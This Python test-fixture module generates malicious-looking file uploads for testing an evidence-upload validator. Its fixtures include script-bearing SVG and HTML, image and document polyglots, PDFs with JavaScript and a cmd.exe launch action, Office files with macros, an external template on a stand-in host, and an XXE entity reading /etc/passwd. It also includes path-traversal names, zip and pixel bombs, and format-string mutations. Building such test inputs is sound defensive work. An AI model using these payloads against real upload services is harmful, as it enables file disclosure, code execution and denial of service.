"""Uploads that somebody could try as evidence: honest ones, disguised ones, bombs, and any of them with bytes changed.

Every hidden payload carries CANARY, so that a test sees it come through; every photo says where it was taken.
"""

import random
import struct
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from io import BytesIO

from PIL import Image, PngImagePlugin

from samenplan.documents.tests.reading.packages import excel, paragraph, text_cell, word

CANARY = b"KANARIE-7f3a"
SCRIPT = b"<script>/*" + CANARY + b"*/alert(1)</script>"
PAGE = b"<!doctype html><html><body>" + SCRIPT + b"</body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
PLACE = "51.2093,3.2247"
ORIENTATION, GPS = 274, 0x8825


@dataclass(frozen=True, slots=True)
class Upload:
    """A file as a browser would send it, and which kind of trick it is."""

    trick: str
    name: str
    data: bytes


def _exif(turned: int = 1) -> Image.Exif:
    exif = Image.Exif()
    exif[ORIENTATION] = turned
    exif[0x010E] = CANARY.decode()
    exif[GPS] = {1: "N", 2: (51.0, 12.0, 33.5), 3: "E", 4: (3.0, 13.0, 28.9)}
    return exif


XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="51,12.5N">'
    + CANARY
    + b"</rdf:Description></rdf:RDF></x:xmpmeta>"
)


def _picture(size: tuple[int, int] = (64, 48), mode: str = "RGB") -> Image.Image:
    image = Image.linear_gradient("L").resize(size).convert(mode)
    if mode == "RGBA":
        image.putalpha(120)
    return image


@cache
def photo(kind: str = "JPEG", turned: int = 1, mode: str = "RGB") -> bytes:
    """A small photo with the place where it was taken in EXIF and XMP, and a remark."""
    kept = BytesIO()
    options: dict[str, object] = {"exif": _exif(turned)}
    if kind == "JPEG":
        options |= {"xmp": XMP, "comment": SCRIPT}
    elif kind == "WEBP":
        options |= {"xmp": XMP}
    else:
        texts = PngImagePlugin.PngInfo()
        texts.add_itxt("XML:com.adobe.xmp", XMP.decode())
        texts.add_text("Comment", SCRIPT.decode())
        options |= {"pnginfo": texts}
    _picture(mode=mode).save(kept, kind, **options)
    return kept.getvalue()


def pdf(inside: bytes = b"") -> bytes:
    """A PDF of one page; `inside` goes into its catalogue."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R" + inside + b">>endobj\n"
        b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n"
        b"trailer<</Root 1 0 R>>\n%%EOF\n"
    )


def png_of(width: int, height: int) -> bytes:
    """A PNG that says it is this large, and holds next to nothing."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    start = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head)
    return start + chunk(b"IDAT", zlib.compress(b"\0" * 1000)) + chunk(b"IEND", b"")


HONEST: tuple[Callable[[], Upload], ...] = (
    lambda: Upload("honest", "foto.jpg", photo()),
    lambda: Upload("honest", "IMG_2032.JPEG", photo(turned=6)),
    lambda: Upload("honest", "foto.png", photo("PNG")),
    lambda: Upload("honest", "doorzichtig.png", photo("PNG", mode="RGBA")),
    lambda: Upload("honest", "foto.webp", photo("WEBP")),
    lambda: Upload("honest", "verslag.pdf", pdf()),
    lambda: Upload("honest", "verslag.docx", word(paragraph("Een verslag"))),
    lambda: Upload("honest", "tabel.xlsx", excel(f"<row>{text_cell('a')}</row>")),
)
APPENDED = (PAGE, SVG, pdf() + CANARY, word(CANARY.decode()), b"<?php /*" + CANARY + b"*/ ?>", b"PK\x03\x04" + CANARY)
PHOTO_NAMES = {"JPEG": "foto.jpg", "PNG": "foto.png", "WEBP": "foto.webp"}
ACTIVE = (
    b"/OpenAction<</S/JavaScript/JS(" + CANARY + b")>>",
    b"/OpenAction 9 0 R",
    b"/AA<</O 9 0 R>>",
    b"/Names<</JavaScript 9 0 R>>",
    b"/J#61vaScript 9 0 R",
    b"/Launch<</F(cmd.exe)>>",
    b"/Names<</EmbeddedFiles 9 0 R>>",
    b"/AcroForm<</XFA 9 0 R>>",
    b"/A<</JS (app.alert) >>",
)
OUTSIDE = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    'Target="https://boos.example/a.dotm" TargetMode="External"/></Relationships>'
)


def any_upload(dice: random.Random) -> Upload:
    """One upload of any kind; the same dice give the same one."""
    trick = dice.choice(TRICKS)
    return trick(dice)


def _honest(dice: random.Random) -> Upload:
    return dice.choice(HONEST)()


def _wrong_type(dice: random.Random) -> Upload:
    insides = (
        PAGE,
        SVG,
        b"MZ" + CANARY * 9,
        b"GIF89a" + CANARY,
        b"BM" + CANARY,
        CANARY,
        b"",
        dice.randbytes(300),
        pdf(),
    )
    names = (
        "a.jpg",
        "a.png",
        "a.webp",
        "a.docx",
        "a.xlsx",
        "a.pdf",
        "a.heic",
        "a.gif",
        "a.exe",
        "a",
        "a.doc",
        "a.tiff",
    )
    return Upload("wrong type", dice.choice(names), dice.choice(insides))


def _svg(dice: random.Random) -> Upload:
    names = (
        "a.svg",
        "a.svgz",
        "a.svg.png",
        "a.jpg",
        "a.html",
        "a.xhtml",
        "a.xml",
        "a.png\0.svg",
        "../../a.svg",
        "a.pdf",
    )
    lead = dice.choice((b"", b"\xef\xbb\xbf", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", b"%PDF-1.4\n", b" \n"))
    return Upload("svg script", dice.choice(names), lead + dice.choice((SVG, PAGE)))


def _polyglot(dice: random.Random) -> Upload:
    kind = dice.choice(tuple(PHOTO_NAMES))
    return Upload("polyglot", PHOTO_NAMES[kind], photo(kind) + dice.choice(APPENDED))


def _document_polyglot(dice: random.Random) -> Upload:
    tail = dice.choice(APPENDED)
    name, data = dice.choice(
        (
            ("a.pdf", PAGE + pdf()),
            ("a.pdf", pdf() + tail),
            ("a.pdf", b"%PDF-1.4\n" + PAGE + pdf()),
            ("a.docx", word(paragraph("a")) + tail),
            ("a.docx", pdf() + word(paragraph("a"))),
            ("a.xlsx", photo() + excel("")),
            ("a.pdf", word(paragraph("a")) + pdf()),
            ("a.jpg", word(paragraph("a")) + photo()),
        )
    )
    return Upload("document polyglot", name, data)


def _location(dice: random.Random) -> Upload:
    kind = dice.choice(tuple(PHOTO_NAMES))
    mode = dice.choice(("RGB", "RGBA", "L") if kind == "PNG" else ("RGB",))
    return Upload("location", PHOTO_NAMES[kind], photo(kind, turned=dice.randint(1, 8), mode=mode))


def _active_pdf(dice: random.Random) -> Upload:
    return Upload("active pdf", "a.pdf", pdf(dice.choice(ACTIVE)))


@cache
def _bombs() -> tuple[Upload, ...]:
    zeros = b"0" * 60_000_000
    return (
        Upload("bomb", "a.docx", word("", **{"word/media/a.png": zeros})),
        Upload("bomb", "a.xlsx", excel("", **{"xl/media/a": zeros[:20_000_000]})),
        Upload("bomb", "a.docx", word("", **{f"word/{place}": "" for place in range(2_100)})),
        Upload("bomb", "a.png", png_of(20_000, 20_000)),
        Upload("bomb", "a.png", png_of(2**31 - 1, 2**31 - 1)),
        Upload("bomb", "a.png", png_of(4_000, 4_000)),
    )


def _bomb(dice: random.Random) -> Upload:
    return dice.choice(_bombs())


def _active_office(dice: random.Random) -> Upload:
    more: dict[str, str | bytes] = dice.choice(
        (
            {"word/vbaProject.bin": CANARY},
            {"word/_rels/settings.xml.rels": OUTSIDE},
            {"word/activeX/activeX1.xml": "<a/>"},
            {"word/embeddings/oleObject1.bin": CANARY},
            {"word/_rels/document.xml.rels": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"},
            {"../../a": "x"},
        )
    )
    return Upload("active office", "a.docx", word(paragraph("a"), **more))


def _mutated(dice: random.Random) -> Upload:
    """An honest file with bytes changed, cut out, doubled, or cut off."""
    whole = dice.choice(HONEST)()
    data = bytearray(whole.data)
    for _ in range(dice.randint(1, 5)):
        place = dice.randrange(len(data))
        match dice.randrange(4):
            case 0:
                data[place] = dice.randrange(256)
            case 1:
                del data[place : place + dice.randint(1, 20)]
            case 2:
                data[place:place] = data[max(0, place - 30) : place]
            case _:
                data[place:place] = dice.choice((b"\0\0\0\0", b"\xff\xff\xff\xff", b"%s%n", SCRIPT[:10]))
        if len(data) < 8:
            break
    if dice.random() < 0.15:
        data = data[: dice.randrange(1, len(data))]
    return Upload("mutated", whole.name, bytes(data))


TRICKS = (
    _honest, _wrong_type, _svg, _polyglot, _document_polyglot, _location, _active_pdf, _bomb, _active_office,
    _mutated, _mutated, _mutated,
)  # fmt: skip
